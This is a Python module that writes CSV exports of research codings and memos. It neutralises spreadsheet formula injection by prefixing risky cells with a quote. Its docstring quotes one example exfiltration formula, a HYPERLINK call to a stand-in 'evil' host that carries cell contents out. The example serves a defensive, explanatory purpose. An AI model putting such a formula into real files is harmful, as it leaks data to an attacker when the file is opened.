"""What the lead downloads as CSV: codings and transcript memos, safe to open in a spreadsheet
(RFC 4180: CRLF line ends, cells with line breaks quoted).

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (OWASP "CSV injection"): a memo such as
``=HYPERLINK("http://evil/?"&A1, "click")`` would run when the lead opens the file. Such
cells are prefixed with a single quote, which spreadsheets show as text and do not display;
numbers are left alone. Only the CSV exports do this — the REFI-QDA export
(:func:`coding.exchange.write_qdpx`) carries every memo exactly as typed, since QDA tools do
not evaluate formulas. Tested in tests/coding/web/test_security.py.
"""

from __future__ import annotations

import io

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text with every text cell neutralised."""
    safe = frame.copy()
    for column in safe.columns:
        if not pd.api.types.is_numeric_dtype(safe[column]):
            safe[column] = safe[column].map(neutralise)
    buffer = io.StringIO()
    # RFC 4180 line ends: the csv writer then quotes any cell holding a CR or LF, so a memo
    # with a line break cannot split its row
    safe.to_csv(buffer, index=False, lineterminator="\r\n")
    return buffer.getvalue()
